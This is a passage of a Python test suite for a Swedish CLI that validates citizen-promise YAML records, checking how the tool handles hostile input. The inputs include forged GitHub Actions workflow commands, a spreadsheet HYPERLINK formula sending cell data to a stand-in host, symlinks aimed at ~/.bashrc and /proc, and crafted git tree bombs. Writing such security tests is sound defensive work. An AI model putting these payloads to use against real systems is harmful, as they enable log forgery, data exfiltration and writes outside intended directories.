            timeout=60,
            check=False,
        )
    assert result.returncode == 2, result.stderr
    assert "disken är full" in result.stderr
    assert "internt fel" not in result.stderr and "Traceback" not in result.stderr
    assert stat.S_ISCHR(device.lstat().st_mode)


# 9. Every value that validates can be rendered.


@pytest.mark.parametrize("text", ["ä" * 40000, "a" * 70000])
def test_a_long_text_without_spaces_is_split_for_the_pdf(
    tree: Path, tmp_path: Path, text: str
) -> None:
    _replace(tree, b"description: Trygghetsvandring vid torget.", f"description: {text}".encode())
    out = tmp_path / "ut.pdf"
    result = run_cli(
        "report",
        "promise",
        "centrum-2022",
        "--data",
        tree,
        "--format",
        "pdf",
        "--as-of",
        AS_OF,
        "-o",
        out,
    )
    assert result.exit_code in (0, 1), result.output
    assert out.read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("minimum: 8", "minimum: " + "9" * 5000),
        ("minimum: 8", "minimum: 1e308"),
        ("    count: 1\n", "    count: 99999999999999999999\n"),
    ],
    ids=["5000-digit-integer", "float-that-overflows", "huge-count"],
)
def test_a_number_no_output_can_print_is_refused_at_its_place(
    tree: Path, old: str, new: str
) -> None:
    """Point 9: numbers are range-checked at validation, so every output can print them."""
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8")
    if old not in text:
        text = text.replace(
            "    target: trygghetsvandringar\n", "    target: trygghetsvandringar\n" + old, 1
        )
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    result = run_cli("validate", "--data", tree, "--format", "json")
    assert result.exit_code == 1, result.output
    found = [
        d for d in json.loads(result.stdout)["diagnostics"] if d["path"].endswith(PROMISE.name)
    ]
    assert found and all(d["line"] > 1 for d in found), found
    for command in (("status", "--format", "json"), ("report",)):
        shown = run_cli(*command, "--data", tree)
        assert (
            shown.exit_code == 1 and "NaN" not in shown.stdout and "Traceback" not in shown.output
        )


def test_a_value_of_many_empty_lines_cannot_stall_the_report(tree: Path) -> None:
    """The Markdown escapes once rescanned the rest of a text at every line start."""
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8")
    lines = "\n".join(["    Sammanfattning.", *[""] * 200_000, "    Slut."])
    path.write_text(text.replace("title:", f"summary: |\n{lines}\ntitle:", 1), encoding="utf-8")
    signal.alarm(60)  # a stall fails the run instead of stopping it
    try:
        result = run_cli("report", "promise", "centrum-2022", "--data", tree, "--as-of", AS_OF)
    finally:
        signal.alarm(0)
    assert result.exit_code == 0, result.output
    assert "Slut." in result.stdout


@pytest.mark.parametrize(
    "dialogue",
    [
        "{date: 2022-01-15, title: Dialog, participants: 0x1fb0fe920}",
        "{date: 2022-01-15, title: Dialog, participants: 850709_1232}",
        '{date: 2022-01-15, title: Dialog, "850709\\u002d1232": x}',
        "{date: 2022-01-15, title: Dialog, participants: 0b111111011000011111110100100100000}",
        "{date: 2022-01-15, title: Dialog, 0b111111011000011111110100100100000: x}",
    ],
    ids=["hex-integer", "digits-apart", "escaped-key", "binary-integer", "binary-key"],
)
def test_a_personnummer_as_a_number_or_a_key_is_found_and_never_printed(
    tree: Path, dialogue: str
) -> None:
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("title:", f"dialogues: [{dialogue}]\ntitle:", 1), encoding="utf-8")
    checked = run_cli("validate", "--data", tree)
    assert checked.exit_code == 1
    assert "personnummer" in checked.output
    everything = checked.output + _report(tree) + run_cli("status", "--data", tree).output
    for shown in ("8507091232", "850709-1232", "850709_1232"):
        assert shown not in everything


def test_a_kept_section_follows_the_promise_it_extends(tree: Path) -> None:
    """An extending promise's section depends on the promise it extends: it is never kept, and
    the extended promise is read even where its own section is kept."""
    path = tree / PROMISE
    (path.parent / "centrum-2023.yaml").write_text(
        "# Invented test data.\nid: centrum-2023\nissuers: [lpo-centrum, teststad]\n"
        "year: 2023\ntitle: Medborgarlöfte 2023 för Centrum\nextends: centrum-2022\n",
        encoding="utf-8",
    )
    as_of = ("--as-of", "2023-06-01")
    first = run_cli("report", "--data", tree, *as_of)
    assert run_cli("report", "--data", tree, *as_of).stdout == first.stdout  # kept sections
    text = path.read_text(encoding="utf-8").replace("minimum: 8", "minimum: 99")
    path.write_text(text.replace("title: Otrygga platser", "title: Nya platser"), encoding="utf-8")
    again = run_cli("report", "--data", tree, *as_of).stdout
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SAMVERKAN_CACHE", "0")
        afresh = run_cli("report", "--data", tree, *as_of).stdout
    assert again == afresh
    assert again.count("Nya platser") == 2  # in the 2022 promise and in the one extending it


@pytest.mark.parametrize(
    "command",
    [("status",), ("status", "--details"), ("report",), ("report", "promise", "centrum-2022")],
)
def test_a_title_cannot_forge_a_github_workflow_command(
    tree: Path, command: tuple[str, ...]
) -> None:
    """GitHub Actions runs every output line that starts with `::`."""
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8")
    forged = 'title: "Löfte\\n::error file=README.md::Falskt fel\\n  ::add-mask::x"'
    path.write_text(text.replace("title: Medborgarlöfte", forged + "\nsummary: Medborgarlöfte", 1))
    result = run_cli(*command, "--data", tree, "--as-of", AS_OF)
    assert "Falskt fel" in result.stdout or "Löfte" in result.stdout, result.output
    assert not [line for line in result.stdout.splitlines() if line.lstrip().startswith("::")]


def _runs_a_workflow_command(line: str) -> bool:
    """What GitHub's runner takes for a command: `::` after any Unicode white space, or
    `##[` anywhere in the line."""
    return line.lstrip().startswith("::") or "##[" in line


@pytest.mark.parametrize(
    "command",
    [("status",), ("report",), ("report", "promise", "centrum-2022"), ("validate",)],
)
def test_no_space_or_legacy_form_lets_a_title_forge_a_workflow_command(
    tree: Path, command: tuple[str, ...]
) -> None:
    """A no-break or ideographic space before `::` (the runner trims Unicode white space), and
    the older `##[error]` form, which the runner finds anywhere in a line; on standard output
    and standard error alike."""
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8")
    forged = 'title: "Löfte ##[error]Falskt\\n\\u00a0::error::Falskt\\n\\u3000::stop-commands::x"'
    if command == ("validate",):  # a value quoted in a message on standard output
        forged += "\nyear: '##[error]Falskt år'"
        text = text.replace("year: 2022\n", "")
    path.write_text(text.replace("title: Medborgarlöfte", forged + "\nsummary: Medborgarlöfte", 1))
    as_of = () if command == ("validate",) else ("--as-of", AS_OF)
    result = run_cli(*command, "--data", tree, *as_of)
    assert "Falskt" in result.stdout, result.output
    assert not [line for line in result.stdout.splitlines() if _runs_a_workflow_command(line)]
    assert not [line for line in result.stderr.splitlines() if _runs_a_workflow_command(line)]


def test_a_template_error_cannot_forge_a_workflow_command_on_standard_error(
    tree: Path,
) -> None:
    _user_template(tree, "overview.md.j2", '{% include "a\\n::error title=x::Falskt\\n" %}\n')
    result = run_cli("report", "--data", tree, "--as-of", AS_OF)
    assert result.exit_code == 2
    assert "Falskt" in result.stderr
    assert not [line for line in result.stderr.splitlines() if _runs_a_workflow_command(line)]


def test_a_character_the_fonts_lack_does_not_stop_the_pdf(tree: Path, tmp_path: Path) -> None:
    """Point 9: Han, Hangul and Thai are not in the bundled fonts; the PDF shows □ for them
    instead of failing."""
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("title:", "summary: Möte på 中文, 한국어 och ไทย.\ntitle:", 1))
    out = tmp_path / "rapport.pdf"
    result = run_cli(
        "report", "promise", "centrum-2022", "--data", tree, "--format", "pdf", "-o", out
    )
    assert result.exit_code == 0, result.output
    from pypdf import PdfReader

    shown = "".join(page.extract_text() for page in PdfReader(out).pages)
    assert "Möte på" in shown and "中" not in shown


def test_a_tree_of_more_bytes_than_the_limit_is_refused_before_it_is_read(
    tree: Path,
) -> None:
    """Each file is within --max-file-size, but together they would be parsed in memory: a
    pull request of a thousand files of a MiB each stops at once (sparse files here)."""
    folder = tree / "promises" / "fyllnad"
    folder.mkdir()
    for number in range(1025):
        with open(folder / f"fyllnad-{number}.yaml", "wb") as file:
            file.truncate(1024 * 1024)
    started = time.monotonic()
    result = run_cli("validate", "--data", tree)
    assert time.monotonic() - started < 10
    assert result.exit_code == 2, result.output
    assert "mer än gränsen 1024 MiB" in result.output


def test_a_tree_of_more_files_than_the_limit_is_refused(tree: Path) -> None:
    from samverkan_cli import api
    from samverkan_cli.loading.limits import Limits

    with pytest.raises(api.CannotRun, match="fler än gränsen 3"):
        api.validate(tree, limits=Limits(max_files=3))


def test_a_title_too_long_for_a_pdf_bookmark_is_an_error_at_its_line(
    tree: Path, tmp_path: Path
) -> None:
    """Point 9: a title becomes a heading and a heading a PDF bookmark, which holds 32 767 bytes
    at most. A title of 32 768 two-byte letters validated and then failed the PDF; now it is
    refused where it is written, and what validates renders."""
    path = tree / PROMISE
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if line.startswith("title:"))
    lines[at] = "title: " + "ä" * 32768 + "\n"
    path.write_text("".join(lines), encoding="utf-8")
    result = run_cli("validate", "--data", tree)
    assert result.exit_code == 1, result.output
    assert f"centrum-2022.yaml:{at + 1}:" in result.output
    assert "högst 500 tecken" in result.output, result.output
    lines[at] = "title: " + "ä" * 500 + "\n"
    path.write_text("".join(lines), encoding="utf-8")
    out = tmp_path / "löfte.pdf"
    result = run_cli(
        "report", "promise", "centrum-2022", "--data", tree, "--format", "pdf", "-o", out
    )
    assert result.exit_code == 0, result.output
    assert out.read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize(
    ("folder", "name"),
    [("850709-1232", "centrum-2022.yaml"), ("19850709", "1232-x.yaml")],
    ids=["in-a-folder", "split-by-a-folder"],
)
def test_a_personnummer_in_a_folder_name_is_an_error_and_never_printed(
    tree: Path, folder: str, name: str
) -> None:
    (tree / "promises" / folder).mkdir()
    shutil.copy(tree / PROMISE, tree / "promises" / folder / name)
    checked = run_cli("validate", "--data", tree)
    assert checked.exit_code == 1
    assert "[personnummer]" in checked.output and "personnummer" in checked.output
    shown = (
        checked.output
        + run_cli("status", "--data", tree, "--format", "json").output
        + run_cli("report", "--data", tree, "--as-of", AS_OF).output
    )
    assert "850709-1232" not in shown and "19850709/1232" not in shown


def test_the_quick_validate_guards_its_output_too(tree: Path) -> None:
    """`validate` without typer (the pre-commit hook's path) writes through the same guard."""
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8").replace("year: 2022\n", "year: '##[error]Falskt'\n")
    path.write_text(text, encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "samverkan_cli", "validate", "--data", str(tree)],
        capture_output=True,
        text=True,
        env={**os.environ, "SAMVERKAN_CACHE": "0"},
        timeout=120,
    )
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Falskt" in result.stdout
    assert "##[" not in result.stdout + result.stderr


@pytest.mark.parametrize(
    ("written", "message"),
    [
        ('"a' + "\\u0301" * 60000 + '"', "kombinerande tecken i rad"),
        ('"Löfte\\ufeffett"', "BOM-tecken"),
        ('"Löfte \\ue018"', "privat bruk"),
    ],
    ids=["combining-marks", "bom", "private-use"],
)
def test_a_text_the_pdf_cannot_show_is_refused_at_its_place(
    tree: Path, written: str, message: str
) -> None:
    """Point 9: sixty thousand combining accents on one letter took the PDF's text shaping
    minutes (in this process, where no time limit holds) and three hundred thousand made it
    panic; a byte-order mark or a private-use character fails PDF/A. Each is refused where it
    is written, so what validates renders."""
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("title:", f"summary: {written}\ntitle:", 1), encoding="utf-8")
    started = time.monotonic()
    result = run_cli("validate", "--data", tree)
    assert time.monotonic() - started < 20
    assert result.exit_code == 1, result.output
    assert message in result.output


def test_accents_and_scripts_with_marks_still_validate(tree: Path) -> None:
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8")
    summary = "Möte i Café Åre (e\\u0301) med हिन्दी और नमस्ते और ภาษาไทยที่มีวรรณยุกต์ทุกคำ"
    path.write_text(text.replace("title:", f'summary: "{summary}"\ntitle:', 1), encoding="utf-8")
    result = run_cli("validate", "--data", tree)
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("field", ["title", "summary"], ids=["heading", "paragraph"])
def test_a_blank_line_in_a_value_stays_in_its_place_in_the_markdown_report(
    tree: Path, field: str
) -> None:
    """Point 7: a blank line in a promise's title ended its `###` heading, and in a list item
    ended the item; a value is one run of text wherever it stands."""
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8")
    value = '"Löfte\\n\\nInte längre rubrik\\n- ingen punkt"'
    if field == "title":
        text = text.replace("title: Medborgarlöfte", f"title: {value}\nsummary: Medborgarlöfte", 1)
    else:
        text = text.replace("title:", f"summary: {value}\ntitle:", 1)
    path.write_text(text, encoding="utf-8")
    report = run_cli("report", "--data", tree, "--as-of", AS_OF).stdout
    lines = report.splitlines()
    assert not [line for line in lines if line.startswith(("Inte längre", "- ingen punkt"))]
    assert any("Löfte Inte längre rubrik - ingen punkt" in line for line in lines), report


def test_github_annotations_pass_the_guard_while_a_title_cannot_forge_one(tree: Path) -> None:
    """The guard on standard output leaves `validate --format github`'s own annotations alone
    (their every user-given part is escaped), and a title still cannot add one."""
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8").replace("year: 2022\n", "year: '::error::Falskt'\n")
    path.write_text(text, encoding="utf-8")
    result = run_cli("validate", "--data", tree, "--format", "github")
    assert result.exit_code == 1
    commands = [line for line in result.stdout.splitlines() if line.startswith("::")]
    assert len(commands) == 1 and commands[0].startswith("::error file=")
    assert commands[0].endswith("'::error::Falskt'")  # data of the one annotation, not a command


def test_a_data_folder_linked_out_of_the_checkout_is_refused(
    tree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pull request commits `data -> /` (or to a folder of the runner's): nothing is read."""
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    (checkout / "data").symlink_to(tree)
    monkeypatch.chdir(checkout)
    result = run_cli("validate")
    assert result.exit_code == 2, result.output
    assert "symbolisk länk" in result.output
    inside = checkout / "poster"
    shutil.copytree(tree, inside)
    (checkout / "data").unlink()
    (checkout / "data").symlink_to("poster")
    assert run_cli("validate").exit_code == 0  # a link within the checkout is fine


def test_a_link_through_a_folder_nobody_may_read_is_refused_not_a_crash(tree: Path) -> None:
    """`areas/x.yaml -> /proc/1/cwd/etc/x.yaml`: resolving it raises PermissionError (for a
    user who is not the owner of process 1); a target with a NUL byte raises ValueError. Either
    is a link out of the tree, not a traceback."""
    (tree / "areas" / "proc.yaml").symlink_to("/proc/1/cwd/etc/x.yaml")
    result = run_cli("validate", "--data", tree)
    assert result.exit_code == 1, result.output
    assert "symlink-outside" in result.output


def _mktree(repo: Path, entries: list[str]) -> str:
    return subprocess.run(
        ["git", "mktree"],
        cwd=repo,
        input="".join(entries),
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()


def test_a_revision_of_a_huge_tree_from_a_tiny_repository_is_refused_before_it_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """git stores a repeated folder once: 300 folders of the same 350 files are 105 000 files
    in a repository of a few kilobytes. `--rev` refuses the tree from its listing, before a
    single file is written."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    blob = subprocess.run(
        ["git", "hash-object", "-w", "--stdin"],
        cwd=repo,
        input="id: x\n",
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    files = _mktree(repo, [f"100644 blob {blob}\tf{n}.yaml\n" for n in range(350)])
    folders = _mktree(repo, [f"040000 tree {files}\td{n}\n" for n in range(300)])
    areas = _mktree(repo, [f"040000 tree {folders}\tareas\n"])
    top = _mktree(repo, [f"040000 tree {areas}\tdata\n"])
    commit = git(repo, "commit-tree", top, "-m", "bomb").strip()
    monkeypatch.chdir(repo)
    import tempfile

    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    started = time.monotonic()
    result = run_cli("validate", "--rev", commit, "--data", "data")
    assert time.monotonic() - started < 30
    assert result.exit_code == 2, result.output
    assert "fler än gränsen 100000" in result.output
    assert not any((tmp_path / "tmp").rglob("*.yaml"))


def test_a_crafted_tree_cannot_make_a_folder_through_a_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A tree lists `a` twice, as a link out and as a folder: a folder made "under" `a` would
    be made where the link points."""
    outside = tmp_path / "utanför"
    outside.mkdir()
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")

    def blob(text: str) -> str:
        return subprocess.run(
            ["git", "hash-object", "-w", "--stdin"],
            cwd=repo,
            input=text,
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()

    inner = _mktree(repo, [f"100644 blob {blob('id: x')}\tx.yaml\n"])
    newdir = _mktree(repo, [f"040000 tree {inner}\tny\n"])
    # git mktree sorts and refuses duplicates; a crafted tree object is written directly.
    raw = b"120000 a\0" + bytes.fromhex(blob(str(outside))) + b"40000 a\0" + bytes.fromhex(newdir)
    crafted = (
        subprocess.run(
            ["git", "hash-object", "-w", "-t", "tree", "--literally", "--stdin"],
            cwd=repo,
            input=raw,
            capture_output=True,
            check=True,
        )
        .stdout.decode()
        .strip()
    )
    top = _mktree(repo, [f"040000 tree {crafted}\tdata\n"])
    commit = git(repo, "commit-tree", top, "-m", "dubbel").strip()
    monkeypatch.chdir(repo)
    result = run_cli("validate", "--rev", commit, "--data", "data")
    assert result.exit_code == 2, result.output
    assert not (outside / "ny").exists()


@pytest.mark.parametrize(
    "command",
    [
        ("export", "-o", "samverkan.csv"),
        ("report", "-o", "samverkan.csv"),
        ("import", "--template", "centrum-2022", "-o", "samverkan.csv"),
    ],
)
def test_a_committed_link_named_like_the_output_is_not_followed_out(
    tree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: tuple[str, ...]
) -> None:
    """A pull request commits `samverkan.csv -> ~/.bashrc`; the README's command writes to that
    name. Nothing outside the working directory is written; a link inside it is still
    followed, as `-o` promises."""
    home = tmp_path / "hem"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("# mitt\n")
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    (checkout / "samverkan.csv").symlink_to(bashrc)
    monkeypatch.chdir(checkout)
    result = run_cli(*command, "--data", tree)
    assert result.exit_code == 2, result.output
    assert "leder ut ur katalogen" in result.output
    assert bashrc.read_text() == "# mitt\n"
    (checkout / "samverkan.csv").unlink()
    (checkout / "riktig.csv").write_text("gammal\n")
    (checkout / "samverkan.csv").symlink_to("riktig.csv")
    assert run_cli(*command, "--data", tree).exit_code in (0, 1)
    assert (checkout / "riktig.csv").read_text() != "gammal\n"


def test_an_export_to_standard_output_cannot_forge_a_workflow_command(tree: Path) -> None:
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8").replace(
        "description: Trygghetsvandring vid torget.",
        'description: "Vandring\\n::error file=README.md::Falskt\\n##[error]äldre"',
    )
    path.write_text(text, encoding="utf-8")
    for output_format in ("csv", "json"):
        result = run_cli("export", "--data", tree, "--format", output_format, "--as-of", AS_OF)
        assert "Falskt" in result.stdout, result.output
        assert not [line for line in result.stdout.splitlines() if _runs_a_workflow_command(line)]


def test_the_import_template_writes_titles_as_text_never_as_formulas(
    tree: Path, tmp_path: Path
) -> None:
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8").replace(
        "title: Otrygga platser", 'title: \'=HYPERLINK("http://ond.example/?"&A1,"Klicka")\''
    )
    path.write_text(text, encoding="utf-8")
    sheet = tmp_path / "mall.csv"
    assert (
        run_cli("import", "--template", "centrum-2022", "--data", tree, "-o", sheet).exit_code == 0
    )
    assert ";=HYPERLINK" not in sheet.read_text(encoding="utf-8-sig")
    book = tmp_path / "mall.xlsx"
    assert (
        run_cli("import", "--template", "centrum-2022", "--data", tree, "-o", book).exit_code == 0
    )
    import zipfile

    with zipfile.ZipFile(book) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist() if "sheet" in name)
    assert "<f>HYPERLINK" not in xml and "HYPERLINK" in xml


def test_completion_does_not_wait_on_a_fifo_or_follow_a_link(tree: Path) -> None:
    os.mkfifo(tree / "organisations" / "fifo.yaml")
    (tree / "organisations" / "lank.yaml").symlink_to("/dev/stdin")
    from samverkan_cli import api

    started = time.monotonic()
    found = api.organisation_ids(tree, "kommun")
    assert time.monotonic() - started < 5
    assert "teststad" in found and "fifo" not in found and "lank" not in found


def test_a_pdf_to_standard_output_cannot_forge_a_workflow_command(tree: Path) -> None:
    """A PDF keeps its metadata (the title) uncompressed; piped to standard output in CI, a
    title of its own lines would reach the log."""
    path = tree / PROMISE
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if line.startswith("title:"))
    lines[at] = 'title: "Löfte\\n::error title=X::Falskt ##[error]äldre"\n'
    path.write_text("".join(lines), encoding="utf-8")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "samverkan_cli",
            "report",
            "promise",
            "centrum-2022",
            "--data",
            str(tree),
            "--format",
            "pdf",
            "--as-of",
            AS_OF,
        ],
        capture_output=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert b"Falskt" in result.stdout or "Falskt".encode("utf-16-be") in result.stdout
    lines = result.stdout.split(b"\n")
    assert not [line for line in lines if line.lstrip().startswith(b"::")]
    assert b"##[" not in result.stdout


def test_a_github_annotation_carries_no_legacy_command_in_its_message(tree: Path) -> None:
    area = tree / "areas" / "norra.yaml"
    area.write_text(area.read_text(encoding="utf-8") + '"##[error]Falskt": 1\n', encoding="utf-8")
    result = run_cli("validate", "--data", tree, "--format", "github")
    assert result.exit_code == 1
    assert "Falskt" in result.stdout and "##[" not in result.stdout


def test_a_public_report_does_not_name_an_internal_promise_it_extends(tree: Path) -> None:
    path = tree / PROMISE
    text = path.read_text(encoding="utf-8").replace(
        "id: centrum-2022\n", "id: centrum-2022\naccess: intern\n"
    )
    path.write_text(text, encoding="utf-8")
    (path.parent / "centrum-2023.yaml").write_text(
        "# Invented test data.\nid: centrum-2023\nissuers: [lpo-centrum, teststad]\n"
        "year: 2023\ntitle: Medborgarlöfte 2023 för Centrum\nextends: centrum-2022\n",
        encoding="utf-8",
    )
    report = run_cli("report", "promise", "centrum-2023", "--data", tree, "--as-of", "2023-06-01")
    assert "Medborgarlöfte 2023" in report.stdout, report.output
    assert "centrum-2022" not in report.stdout and "Förlänger" not in report.stdout


def test_a_kept_result_does_not_let_a_data_link_out_of_the_checkout_through(
    tree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The data directory is judged before a kept result is looked up: the tree's result,
    kept where it really lies, is never printed for `data -> …` in a checkout, and nothing
    under the link is read for a key."""
    assert program("validate", "--data", tree, cwd=tree.parent).returncode == 0
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    (checkout / "data").symlink_to(tree)
    for args in (["validate"], ["validate", "--format", "json"]):
        quick = program(*args, cwd=checkout)
        assert quick.returncode == 2, quick.stdout + quick.stderr
        assert "symbolisk länk" in quick.stderr
    monkeypatch.chdir(checkout)
    from samverkan_cli.speed import result_cache

    read: list[str] = []
    real = result_cache._read
    monkeypatch.setattr(
        result_cache, "_read", lambda path, most: read.append(path) or real(path, most)
    )
    result = run_cli("validate")
    assert result.exit_code == 2 and "symbolisk länk" in result.output
    assert read == []


def test_a_file_written_back_during_a_check_keeps_no_result(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file that holds other bytes while the check reads it, and its old bytes again by the
    end (an editor saving twice, a stash popped), leaves no result kept under the old bytes:
    the tree is stamped (inode, times of change) before and after, not only hashed."""
    from samverkan_cli import api

    norra = tree / "areas" / "norra.yaml"
    broken = norra.read_text(encoding="utf-8").replace("name:", "namn:")
    good = norra.read_text(encoding="utf-8")
    norra.write_text(broken, encoding="utf-8")
    real = api._checked

    def during(*args: object, **kwargs: object) -> object:
        norra.write_text(good, encoding="utf-8")
        try:
            return real(*args, **kwargs)  # type: ignore[arg-type]
        finally:
            norra.write_text(broken, encoding="utf-8")

    monkeypatch.setattr(api, "_checked", during)
    api.validate_output(tree, "text")
    api.validate(tree)
    monkeypatch.setattr(api, "_checked", real)
    assert _validated(tree) == _validated(tree, cache=False)
    assert _validated(tree)[0] == 1


def test_a_key_reads_no_file_validate_does_not_read(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Only record files' bytes are hashed for a key: 50 files of 1 MiB beside the records
    (which git stores once, however many) cost nothing to read; and a tree with more record
    bytes than its limit is never hashed."""
    from samverkan_cli.speed import result_cache

    blobs = tree / "bilagor"
    blobs.mkdir()
    for number in range(50):
        (blobs / f"{number}.bin").write_bytes(b"\0" * (1 << 20))
    read: list[str] = []
    real = result_cache._read
    monkeypatch.setattr(
        result_cache, "_read", lambda path, most: read.append(path) or real(path, most)
    )
    assert _validated(tree)[0] == 0
    assert read and all(path.endswith(".yaml") for path in read)
    assert list(section_cache.tree_directory(tree).glob("validate-*"))
    read.clear()
    small = result_cache._tree_digest(tree, DEFAULT_LIMITS._replace(max_tree_bytes=100))
    assert small is None and read == []


def test_init_never_writes_through_a_link(tmp_path: Path) -> None:
    """A repository can hold links where init writes: a dangling `.pre-commit-config.yaml`
    would have init make a file wherever it names, `schemas -> …` write schemas there. Each is
    left alone and said, whatever the working directory; nothing is written outside."""
    outside = tmp_path / "utanfor"
    (outside / "s").mkdir(parents=True)
    (outside / "v").mkdir()
    (outside / "egen.yaml").write_text("# min\nrepos: []\n", encoding="utf-8")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / ".pre-commit-config.yaml").symlink_to(outside / "skapad.sh")
    (repo / "schemas").symlink_to(outside / "s")
    (repo / ".vscode").symlink_to(outside / "v")
    other = tmp_path / "repo2"
    other.mkdir()
    (other / ".pre-commit-config.yaml").symlink_to(outside / "egen.yaml")
    for directory in (repo, other):
        result = run_cli("init", directory)
        assert result.exit_code == 1, result.output
        assert "skrivs inte genom" in result.output
    assert sorted(path.name for path in outside.rglob("*")) == ["egen.yaml", "s", "v"]
    assert (outside / "egen.yaml").read_text(encoding="utf-8") == "# min\nrepos: []\n"


def test_a_temporary_file_is_never_made_through_a_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A whole-file write makes its temporary file beside the target exclusively, never
    through a link someone put at the name: it takes another name, and writes 0600 first."""
    from samverkan_cli.support import files

    names = iter([b"\x01" * 6, b"\x02" * 6])
    monkeypatch.setattr(files.os, "urandom", lambda size: next(names))
    target = tmp_path / "post.yaml"
    outside = tmp_path / "utanfor"
    (tmp_path / f".post.yaml.{'01' * 6}.tmp").symlink_to(outside)
    files.write_bytes_atomic(target, b"id: x\n")
    assert target.read_bytes() == b"id: x\n"
    assert not outside.exists()


def test_a_carriage_return_in_a_file_name_cannot_start_a_workflow_command(
    tree: Path, tmp_path: Path
) -> None:
    """GitHub's runner ends a line at a lone carriage return too: a file named
    `x\\r::add-mask::….yaml`, shown in a message on standard error or in `diff`'s text, starts
    no command of its own."""
    (tree / "areas" / "x\r::add-mask::forged.yaml").write_text("id: x\n", encoding="utf-8")
    for args in (["status", "--data", tree], ["validate", "--data", tree]):
        found = program(*args, cwd=tmp_path)
        for stream in (found.stdout, found.stderr):
            assert "\r::" not in stream and "\n::" not in stream and not stream.startswith("::")
        assert found.returncode == 1, found.stdout + found.stderr


@pytest.mark.parametrize("pdf", [False, True])
def test_a_file_name_that_is_not_utf8_is_named_in_the_report_not_a_crash(
    tree: Path, tmp_path: Path, pdf: bool
) -> None:
    """A name git and the file system allow but UTF-8 cannot hold: the report is written, says
    the record is not in it, names the file with an escape, and exits 1."""
    (tree / "areas" / os.fsdecode(b"\xff.yaml")).write_text("id: x\n", encoding="utf-8")
    output = tmp_path / "rapport.pdf"
    args = ["report", "--data", tree, *(["--format", "pdf", "-o", output] if pdf else [])]
    found = program(*args, cwd=tmp_path)
    assert found.returncode == 1, found.stderr
    assert "internt fel" not in found.stderr
    assert "\\xff.yaml" in found.stderr
    if pdf:
        assert output.read_bytes().startswith(b"%PDF")
    else:
        assert "areas/\\\\xff.yaml (" in found.stdout and "inte med" in found.stdout
